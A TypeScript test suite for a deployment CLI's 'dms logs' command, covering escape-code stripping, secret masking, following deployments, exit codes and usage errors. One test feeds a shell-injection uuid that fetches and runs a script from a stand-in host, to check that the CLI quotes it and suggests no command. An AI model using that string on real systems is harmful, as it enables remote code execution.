// `dms logs`: the built binary against small servers on 127.0.0.1 that serve crafted rows.
import { afterEach, describe, expect, it } from 'vitest';
import { spawn } from 'node:child_process';
import { PassThrough } from 'node:stream';
import { BIN } from '../support/bin.js';
import { runBin, scriptsRun, tempConfigDir, type BinResult } from '../support/run-bin.js';
import { json, serversClosedAfterEach, type Handler, type HostileServer } from '../support/hostile.js';
import type { Session } from '../../src/commands/connect.js';
import type { DmsClient } from '../../src/api/client.js';

const APP = '3f0c2a9e-7b1d-4c8e-9a41-5d2e8b6f1c07';
const TOKEN = '7|logsTestSecretToken1234';
const LIST = `/api/v1/deployments/applications/${APP}`;
const serve = serversClosedAfterEach(afterEach);

type Row = Record<string, unknown>;
type Entry = Record<string, unknown>;

let order = 0;
function entry(output: string, extra: Entry = {}): Entry {
  order += 1;
  return {
    command: null,
    output,
    type: 'stdout',
    timestamp: `2026-08-22T15:22:${String(order % 60).padStart(2, '0')}.123456Z`,
    hidden: false,
    batch: 1,
    order,
    ...extra,
  };
}

const STARTED = '2026-08-22T15:20:00.000000Z';
function row(id: number, status: string, entries?: Entry[], extra: Row = {}): Row {
  const final = ['finished', 'failed', 'cancelled-by-user'].includes(status);
  return {
    id,
    deployment_uuid: `dep${id}abcdefghijklmnopq`,
    status,
    commit: 'a'.repeat(40),
    created_at: STARTED,
    finished_at: final ? '2026-08-22T15:23:12.000000Z' : null,
    ...(entries === undefined ? {} : { logs: JSON.stringify(entries) }),
    ...extra,
  };
}

/** Serves the rows of `history()` by skip/take, as a bare array or with a count. */
function lister(history: () => Row[], { count = false } = {}): Handler {
  return (req, res) => {
    if (req.path !== LIST) return json(404, { message: 'Application not found' })(req, res, undefined as never);
    const skip = Number(req.query.get('skip') ?? 0);
    const take = Number(req.query.get('take') ?? 10);
    const rows = history();
    const page = rows.slice(skip, skip + take);
    return json(200, count ? { count: rows.length, deployments: page } : page)(req, res, undefined as never);
  };
}

/**
 * A history that moves on each time a request's answer carried the followed deployment: the
 * client saw step k, so the next request sees step k+1 (the last step stays).
 */
function following(steps: Row[][], followed: number, options: { count?: boolean } = {}): Handler {
  let k = 0;
  const list = lister(() => steps[k]!, options);
  return (req, res, raw) => {
    const skip = Number(req.query.get('skip') ?? 0);
    const take = Number(req.query.get('take') ?? 10);
    const carried = steps[k]!.slice(skip, skip + take).some((r) => r.id === followed);
    void list(req, res, raw);
    if (carried && k < steps.length - 1) k += 1;
  };
}

const env = (s: HostileServer, extra: Record<string, string> = {}) => ({
  DMS_URL: `${s.url}/api/v1`,
  DMS_TOKEN: TOKEN,
  DMS_FOLLOW_INTERVAL_MS: '20',
  ...extra,
});

const lines = (text: string) => text.split('\n').filter((l) => l !== '');

function expectNothingHidden(r: BinResult) {
  expect(r.stdout + r.stderr).not.toContain('logsTestSecretToken1234');
}

// A build log with what build tools send: colours, an OSC title, a clear, CR progress, stderr,
// debug lines, commands, several lines in one entry.
const BUILD = [
  entry('', { command: 'docker build -t app .' }),
  entry('\u001b[32mStep 1/3\u001b[0m : FROM node:20\n\u001b]0;building\u0007Step 2/3 : RUN npm ci\n'),
  entry('\u001b[2J\u001b[H'),
  entry('progress 10%\rprogress 50%\rprogress 100%'),
  entry('npm warn deprecated thing', { type: 'stderr' }),
  entry('debug: cache key abc', { hidden: true }),
  entry('ok \u009b31mdone\u202e reversed\u2066 \u0085end'),
];
const BUILD_TEXT = [
  '$ docker build -t app .',
  'Step 1/3 : FROM node:20',
  'Step 2/3 : RUN npm ci',
  'progress 100%',
  'npm warn deprecated thing',
  'ok done reversed end',
];

describe('dms logs', () => {
  it("prints the newest deployment's log as plain lines: no escape codes, $ before commands, CR shows the last state", async () => {
    const s = await serve(lister(() => [row(250, 'finished', BUILD), row(249, 'failed', [entry('older')])]));
    const r = await runBin(['logs', APP], { env: env(s) });
    expect(r.code).toBe(0);
    expect(lines(r.stdout)).toEqual(BUILD_TEXT);
    expect(r.stdout).not.toMatch(/[\u001b\u0080-\u009f\u202a-\u202e\u2066-\u2069]/);
    expect(r.stderr).toBe('');
    // The newest is found with one request of one row.
    expect(s.requests.map((q) => q.query.toString())).toEqual(['skip=0&take=1']);
  });

  it("--debug adds the hidden lines, --timestamps puts the entry's timestamp first", async () => {
    const s = await serve(lister(() => [row(250, 'finished', BUILD)]));
    const debug = await runBin(['logs', APP, '--debug'], { env: env(s) });
    expect(lines(debug.stdout)).toEqual([...BUILD_TEXT.slice(0, 5), 'debug: cache key abc', BUILD_TEXT[5]]);
    const stamped = await runBin(['logs', APP, '--timestamps'], { env: env(s) });
    const got = lines(stamped.stdout);
    expect(got).toHaveLength(BUILD_TEXT.length);
    got.forEach((l, i) =>
      expect(l).toMatch(new RegExp(`^2026-08-22T15:22:\\d\\d\\.123456Z ${BUILD_TEXT[i]!.replace(/[.$*+?()[\]\\/]/g, '\\$&')}$`)),
    );
  });

  it('--json prints one parseable object per entry, cleaned, hidden ones only with --debug, no raw C1 or bidi characters', async () => {
    const tricky = entry('a\u0085b \u2028c\u202ed', { command: 'echo \u009d0;title\u009c\u2066x' });
    const s = await serve(lister(() => [row(250, 'finished', [...BUILD, tricky])]));
    const r = await runBin(['logs', APP, '--json'], { env: env(s) });
    expect(r.code).toBe(0);
    expect(r.stdout).not.toMatch(/[\u001b\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/);
    const objects = lines(r.stdout).map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(objects).toHaveLength(BUILD.length); // the hidden one left out, the tricky one added
    expect(objects[0]).toEqual({
      command: 'docker build -t app .',
      output: '',
      type: 'stdout',
      timestamp: BUILD[0]!.timestamp,
      hidden: false,
      batch: 1,
      order: BUILD[0]!.order,
    });
    expect(objects[1]!.output).toBe('Step 1/3 : FROM node:20\nStep 2/3 : RUN npm ci');
    expect(objects[3]!.output).toBe('progress 100%');
    expect(objects[4]!.type).toBe('stderr');
    expect(objects.some((o) => o.hidden)).toBe(false);
    const withDebug = lines((await runBin(['logs', APP, '--json', '--debug'], { env: env(s) })).stdout).map((l) => JSON.parse(l) as Entry);
    expect(withDebug).toHaveLength(BUILD.length + 1);
    expect(withDebug.filter((o) => o.hidden).map((o) => o.output)).toEqual(['debug: cache key abc']);
  });

  it('prints no raw U+2028/9 in JSON text: cleaning makes them the space a line break becomes', async () => {
    const s = await serve(lister(() => [row(250, 'finished', [entry('x', { command: 'echo a\u2028b', timestamp: 't\u2029' })])]));
    const r = await runBin(['logs', APP, '--json'], { env: env(s) });
    expect(r.stdout).not.toMatch(/[\u2028\u2029]/);
    expect(JSON.parse(r.stdout)).toMatchObject({ command: 'echo a b', timestamp: 't ' });
  });

  it("masks the token, URL passwords and the record's secrets in lines and JSON", async () => {
    const leaky = [
      entry(`curl -H "Authorization: Bearer ${TOKEN}" https://api.example.com`),
      entry('git clone https://deploy:hunter2pass@git.example.com/shop.git', { command: `echo ${TOKEN.split('|')[1]}` }),
      entry('webhook secret is whsec_abcdef123456'),
    ];
    const s = await serve(lister(() => [row(250, 'finished', leaky, { manual_webhook_secret_provider_a: 'whsec_abcdef123456' })]));
    for (const extra of [[], ['--json'], ['--show-secrets']]) {
      const r = await runBin(['logs', APP, ...extra], { env: env(s) });
      expect(r.code).toBe(0);
      expect(r.stdout).toContain('git.example.com');
      expect(r.stdout).not.toContain('hunter2pass');
      expect(r.stdout).not.toContain('whsec_abcdef123456');
      expectNothingHidden(r);
    }
  });

  it('finds a deployment by id and by uuid, paging back through the history', async () => {
    const history = Array.from({ length: 25 }, (_, i) => row(260 - i, 'finished', [entry(`log of ${260 - i}`)]));
    const s = await serve(lister(() => history));
    const byId = await runBin(['logs', APP, '248'], { env: env(s) });
    expect(byId.code).toBe(0);
    expect(byId.stdout).toBe('log of 248\n');
    const byUuid = await runBin(['logs', APP, 'dep238abcdefghijklmnopq'], { env: env(s) });
    expect(byUuid.code).toBe(0);
    expect(byUuid.stdout).toBe('log of 238\n');
  });

  it.each([
    ['an id that is not there', '999', /no deployment 999 among the deployments of application/],
    ['an id older than the history', '12', /no deployment 12 /],
    ['a uuid that is not there', 'nosuchdeployment', /no deployment nosuchdeployment /],
  ])('%s exits 4 with one line', async (_what, ref, message) => {
    const s = await serve(lister(() => Array.from({ length: 15 }, (_, i) => row(260 - i, 'finished', [entry('x')]))));
    const r = await runBin(['logs', APP, ref], { env: env(s) });
    expect(r.code).toBe(4);
    expect(r.stdout).toBe('');
    expect(lines(r.stderr)).toHaveLength(1);
    expect(r.stderr).toMatch(message);
  });

  it("an application without deployments exits 4; an unknown application exits 4 with the server's word", async () => {
    const empty = await serve(lister(() => []));
    const r = await runBin(['logs', APP], { env: env(empty) });
    expect(r.code).toBe(4);
    expect(r.stderr).toMatch(/has no deployments/);
    const other = await serve(json(404, { message: 'Application not found' }));
    const r2 = await runBin(['logs', APP], { env: env(other) });
    expect(r2.code).toBe(4);
    expect(r2.stderr).toMatch(/Not found \(404\): Application not found/);
  });

  it('a row without logs says why on stderr and exits 0', async () => {
    const s = await serve(lister(() => [row(250, 'finished')]));
    const r = await runBin(['logs', APP], { env: env(s) });
    expect(r.code).toBe(0);
    expect(r.stdout).toBe('');
    expect(r.stderr).toBe('This server sent no logs: a token allowed to read sensitive data receives them.\n');
  });

  it('a logs field that cannot be read exits 1 naming the deployment and the reason', async () => {
    const s = await serve(lister(() => [row(248, 'finished', undefined, { logs: '[{"output": "cut off' })]));
    const r = await runBin(['logs', APP], { env: env(s) });
    expect(r.code).toBe(1);
    expect(r.stdout).toBe('');
    expect(r.stderr).toBe('dms: the log of deployment 248 could not be read: the logs field is not JSON\n');
  });

  it('an empty log prints nothing and exits 0 (the note is for terminals only)', async () => {
    const s = await serve(lister(() => [row(250, 'finished', [])]));
    const r = await runBin(['logs', APP], { env: env(s) });
    expect(r).toMatchObject({ code: 0, stdout: '', stderr: '' });
  });
});

describe('dms logs --follow', () => {
  const A = [entry('one'), entry('two')];
  const B = [entry('three', { type: 'stderr' }), entry('', { command: 'npm run build' })];
  const C = [entry('four\nfive')];
  const ALL = ['one', 'two', 'three', '$ npm run build', 'four', 'five'];

  it.each([
    ['finished', 0, /deployment 248 finished after 3m 12s$/],
    ['failed', 7, /deployment 248 failed after 3m 12s$/],
    ['cancelled-by-user', 8, /deployment 248 cancelled after 3m 12s$/],
  ])('prints new entries once as they come until the deployment is %s, then exits %i', async (final, code, last) => {
    const s = await serve(
      following(
        [
          [row(248, 'queued', [])],
          [row(248, 'in_progress', A)],
          [row(248, 'in_progress', A)],
          [row(248, 'in_progress', [...A, ...B])],
          [row(248, final, [...A, ...B, ...C])],
        ],
        248,
      ),
    );
    const r = await runBin(['logs', APP, '--follow'], { env: env(s) });
    expect(r.code).toBe(code);
    expect(lines(r.stdout)).toEqual(ALL);
    const status = lines(r.stderr);
    expect(status[0]).toBe('dms: deployment 248 queued');
    expect(status[1]).toMatch(/^dms: deployment 248 in progress \(\d+(d|h|m|s)/);
    expect(status[2]).toMatch(last);
    expect(status).toHaveLength(3);
    // One row per poll, at its index.
    expect(s.requests.every((q) => q.query.get('take') === '1')).toBe(true);
  });

  it('finds the deployment again when newer ones arrive above it (with and without a count)', async () => {
    for (const count of [true, false]) {
      const newer = (n: number) => Array.from({ length: n }, (_, i) => row(260 + n - i, 'queued', []));
      const s = await serve(
        following(
          [
            [row(248, 'in_progress', A)],
            [...newer(1), row(248, 'in_progress', A)],
            [...newer(3), row(248, 'in_progress', [...A, ...B])],
            [...newer(4), row(248, 'finished', [...A, ...B, ...C])],
          ],
          248,
          { count },
        ),
      );
      const r = await runBin(['logs', APP, '--follow'], { env: env(s) });
      expect(r.code).toBe(0);
      expect(lines(r.stdout)).toEqual(ALL);
    }
  });

  it('follows a deployment named by id that is not the newest', async () => {
    const s = await serve(
      following(
        [
          [row(249, 'queued', []), row(248, 'in_progress', A)],
          [row(249, 'queued', []), row(248, 'failed', [...A, ...B])],
        ],
        248,
      ),
    );
    const r = await runBin(['logs', APP, '248', '--follow'], { env: env(s) });
    expect(r.code).toBe(7);
    expect(lines(r.stdout)).toEqual(ALL.slice(0, 4));
  });

  it('a deployment already final prints its log and exits by its outcome at once', async () => {
    const s = await serve(lister(() => [row(248, 'failed', A)]));
    const r = await runBin(['logs', APP, '--follow'], { env: env(s) });
    expect(r.code).toBe(7);
    expect(lines(r.stdout)).toEqual(['one', 'two']);
    expect(r.stderr).toMatch(/^dms: deployment 248 failed after 3m 12s\n$/);
    expect(s.total()).toBe(1);
  });

  it('rows without logs: the note once, then the status changes, exit by outcome', async () => {
    const s = await serve(following([[row(248, 'in_progress')], [row(248, 'in_progress')], [row(248, 'cancelled-by-user')]], 248));
    const r = await runBin(['logs', APP, '--follow'], { env: env(s) });
    expect(r.code).toBe(8);
    expect(r.stdout).toBe('');
    const status = lines(r.stderr);
    expect(status[0]).toMatch(/^This server sent no logs/);
    expect(status[1]).toMatch(/^dms: deployment 248 in progress/);
    expect(status[2]).toMatch(/^dms: deployment 248 cancelled after/);
    expect(status).toHaveLength(3);
  });

  it('--wait-timeout stops waiting with exit 9 and says the deployment is still running', async () => {
    const s = await serve(lister(() => [row(248, 'in_progress', A)]));
    const r = await runBin(['logs', APP, '--follow', '--wait-timeout', '0.3'], { env: env(s) });
    expect(r.code).toBe(9);
    expect(lines(r.stdout)).toEqual(['one', 'two']);
    expect(r.stderr).toMatch(
      /stopped waiting after 0\.3s; deployment 248 is still in progress\. Resume with: dms logs \S+ 248 --follow\n$/,
    );
    expect(s.total()).toBeGreaterThan(2);
  });

  it('a deployment that cannot be found again exits 1 with a clear line', async () => {
    const s = await serve(following([[row(248, 'in_progress', A)], []], 248));
    const r = await runBin(['logs', APP, '--follow'], { env: env(s) });
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/deployment 248 is no longer where it was in the history of application .*; stopped following\.\n$/);
  });

  it('a server that fails while following exits with the usual code and line', async () => {
    let served = 0;
    const s = await serve((req, res, raw) => {
      served += 1;
      return served === 1
        ? lister(() => [row(248, 'in_progress', A)])(req, res, raw)
        : json(503, { message: 'Service Unavailable' })(req, res, raw);
    });
    const r = await runBin(['logs', APP, '--follow'], { env: env(s) });
    expect(r.code).toBe(1);
    expect(lines(r.stdout)).toEqual(['one', 'two']);
    expect(r.stderr).toMatch(/Server error \(503\)/);
    expect(s.total()).toBe(4); // the poll was tried three times (two retries)
  });

  it('Ctrl+C stops following with exit 130 and says how to resume', async () => {
    const s = await serve(lister(() => [row(248, 'in_progress', A)]));
    const child = spawn(process.execPath, [BIN, 'logs', APP, '--follow'], {
      env: { PATH: process.env.PATH, DMS_CONFIG_DIR: tempConfigDir(), ...env(s) },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stderr = '';
    let stdout = '';
    let sent = false;
    child.stdout.setEncoding('utf8');
    child.stdout.on('data', (d: string) => {
      stdout += d;
    });
    const code = await new Promise<number | null>((resolve) => {
      child.stderr.setEncoding('utf8');
      child.stderr.on('data', (d: string) => {
        stderr += d;
        if (!sent && stderr.includes('in progress')) sent = child.kill('SIGINT');
      });
      child.on('close', resolve);
    });
    expect(code).toBe(130);
    expect(lines(stdout)).toEqual(['one', 'two']);
    expect(stderr).toMatch(new RegExp(`stopped following; deployment 248 goes on .*Resume with: dms logs ${APP} 248 --follow\\n$`));
  });

  describe('a deployment the server names by a uuid that is not a plain id', () => {
    // No id, and a uuid that a shell would run: it is shown quoted, as data, and no command is suggested.
    const EVIL = 'x;curl${IFS}evil.example/s|sh;#$(id)';
    const QUOTED = JSON.stringify(EVIL);
    const evilRow = (extra: Row = {}) => ({ ...row(248, 'in_progress', A), id: undefined, deployment_uuid: EVIL, ...extra });
    const expectNoCommand = (stderr: string) => {
      expect(stderr).not.toMatch(/Resume with/);
      expect(stderr).not.toMatch(/dms logs \S+ x;/);
      expect(stderr).toMatch(/No command to resume is suggested: its uuid is not a plain id \(letters, digits and -\)\.\n$/);
    };

    it('--wait-timeout: exit 9, the uuid quoted, no "Resume with" command', async () => {
      const s = await serve(lister(() => [evilRow()]));
      const r = await runBin(['logs', APP, '--follow', '--wait-timeout', '0.3'], { env: env(s) });
      expect(r.code).toBe(9);
      expect(lines(r.stdout)).toEqual(['one', 'two']);
      expect(r.stderr).toContain(`dms: deployment ${QUOTED} in progress`);
      expect(r.stderr).toContain(`stopped waiting after 0.3s; deployment ${QUOTED} is still in progress. No command`);
      expectNoCommand(r.stderr);
    });

    it('Ctrl+C: exit 130, no "Resume with" command', async () => {
      const s = await serve(lister(() => [evilRow()]));
      const child = spawn(process.execPath, [BIN, 'logs', APP, '--follow'], {
        env: { PATH: process.env.PATH, DMS_CONFIG_DIR: tempConfigDir(), ...env(s) },
        stdio: ['ignore', 'ignore', 'pipe'],
      });
      let stderr = '';
      let sent = false;
      const code = await new Promise<number | null>((resolve) => {
        child.stderr.setEncoding('utf8');
        child.stderr.on('data', (d: string) => {
          stderr += d;
          if (!sent && stderr.includes('in progress')) sent = child.kill('SIGINT');
        });
        child.on('close', resolve);
      });
      expect(code).toBe(130);
      expect(stderr).toContain(`stopped following; deployment ${QUOTED} goes on (Ctrl+C does not cancel it). No command`);
      expectNoCommand(stderr);
    });

    it('neither an id nor a uuid: no command either (it would follow another deployment)', async () => {
      const s = await serve(lister(() => [evilRow({ deployment_uuid: undefined })]));
      // Stopped before the first poll (such a row cannot be found again).
      const r = await runBin(['logs', APP, '--follow', '--wait-timeout', '0.3'], { env: env(s, { DMS_FOLLOW_INTERVAL_MS: '60000' }) });
      expect(r.code).toBe(9);
      expect(r.stderr).toMatch(
        /stopped waiting after 0\.3s; the deployment is still in progress\. No command to resume is suggested: the server gives it no id or uuid\.\n$/,
      );
    });
  });
});

describe('dms logs: usage', () => {
  it.each([
    [[], /give the application uuid/],
    [['not a uuid!'], /APP_UUID must be an application uuid/],
    [[APP, '248', `${TOKEN}`], /^dms: unexpected extra argument\. Run dms logs --help\.$/],
    [[APP, TOKEN], /DEPLOYMENT must be a deployment id/],
    [[APP, '--wait-timeout', '5'], /--wait-timeout bounds --follow/],
    [[APP, '--follow', '--wait-timeout', '0'], /--wait-timeout must be a number of seconds greater than 0/],
    [[APP, '--follow', '--wait-timeout', 'soon'], /--wait-timeout must be a number of seconds/],
    [[APP, '--tail'], /unknown option --tail\. Run dms logs --help/],
  ])('dms logs %j exits 2 with one line and sends nothing', async (args, message) => {
    const s = await serve(lister(() => [row(248, 'finished', [entry('x')])]));
    const r = await runBin(['logs', ...args], { env: env(s) });
    expect(r.code).toBe(2);
    expect(lines(r.stderr)).toHaveLength(1);
    expect(r.stderr.trim()).toMatch(message);
    expectNothingHidden(r);
    expect(s.total()).toBe(0);
  });

  it('--help describes the command and its exit codes', async () => {
    const r = await runBin(['logs', '--help']);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/^Usage: dms logs APP_UUID \[DEPLOYMENT\]/);
    expect(r.stdout).toMatch(/7 failed, 8 cancelled/);
    expect(r.stdout).toMatch(/--wait-timeout SECONDS/);
  });

  it('the built logs command loads no Ink, React or zod', async () => {
    const s = await serve(lister(() => [row(250, 'finished', BUILD)]));
    const r = await scriptsRun(['logs', APP], env(s));
    expect(r.code).toBe(0);
    expect(lines(r.stdout)).toEqual(BUILD_TEXT);
    expect(r.scripts).toEqual(['dms-app', 'got-vendor']);
  });
});

describe('runLogs colour', () => {
  it('on a colour terminal: colours from the log, stderr lines red, commands bold; no other escape codes', async () => {
    const { runLogs } = await import('../../src/commands/logs.js');
    const { parse } = await import('../../src/commands/args.js');
    const rows = [row(250, 'finished', BUILD)];
    const client = {
      redact: (t: string) => t,
      listDeployments: async (_app: string, page: { skip?: number; take?: number } = {}) => {
        const skip = page.skip ?? 0;
        return { total: null, deployments: rows.slice(skip, skip + (page.take ?? 10)) };
      },
    } as unknown as DmsClient;
    const session = { client } as Session;
    const stdout = Object.assign(new PassThrough(), { isTTY: true });
    const stderr = new PassThrough();
    let out = '';
    stdout.setEncoding('utf8');
    stdout.on('data', (d: string) => {
      out += d;
    });
    const io = { stdout, stderr, stdin: new PassThrough(), env: {} };
    const code = await runLogs(parse(['logs', APP]), io, session, { color: true });
    expect(code).toBe(0);
    const got = lines(out);
    expect(got[0]).toBe('\u001b[1m$ docker build -t app .\u001b[0m');
    expect(got[1]).toBe('\u001b[32mStep 1/3\u001b[0m : FROM node:20');
    expect(got[4]).toBe('\u001b[31mnpm warn deprecated thing\u001b[0m');
    // Only SGR codes reach the terminal.
    expect(out.replace(/\u001b\[[0-9;]*m/g, '')).not.toMatch(/[\u001b\u0080-\u009f]/);
  });
});

describe('dms logs against the demo service', () => {
  it("prints a finished deployment's log plainly and masked; a token that may not read logs gets the note", async () => {
    const { startDemoService } = await import('../../src/demo/server.js');
    const demo = await startDemoService();
    try {
      const app = demo.seed.applications[0]!.uuid;
      const res = await fetch(`${demo.url}/deployments/applications/${app}?take=10`, {
        headers: { authorization: `Bearer ${demo.token}`, accept: 'application/json' },
      });
      const body = (await res.json()) as Row[] | { deployments: Row[] };
      const rows = Array.isArray(body) ? body : body.deployments;
      const finished = rows.find((d) => d.status === 'finished')!;
      const r = await runBin(['logs', app, String(finished.id)], { env: { DMS_URL: demo.url, DMS_TOKEN: demo.token } });
      expect(r.code).toBe(0);
      expect(lines(r.stdout).length).toBeGreaterThan(10);
      expect(lines(r.stdout).some((l) => l.startsWith('$ '))).toBe(true);
      expect(r.stdout).not.toMatch(/[\u001b\u0080-\u009f]/);
      expect(r.stdout + r.stderr).not.toContain(demo.token.split('|')[1]!);
      const none = await runBin(['logs', app], { env: { DMS_URL: demo.url, DMS_TOKEN: demo.tokenNoLogs } });
      expect(none).toMatchObject({ code: 0, stdout: '' });
      expect(none.stderr).toMatch(/^This server sent no logs/);
    } finally {
      await demo.close();
    }
  });
});
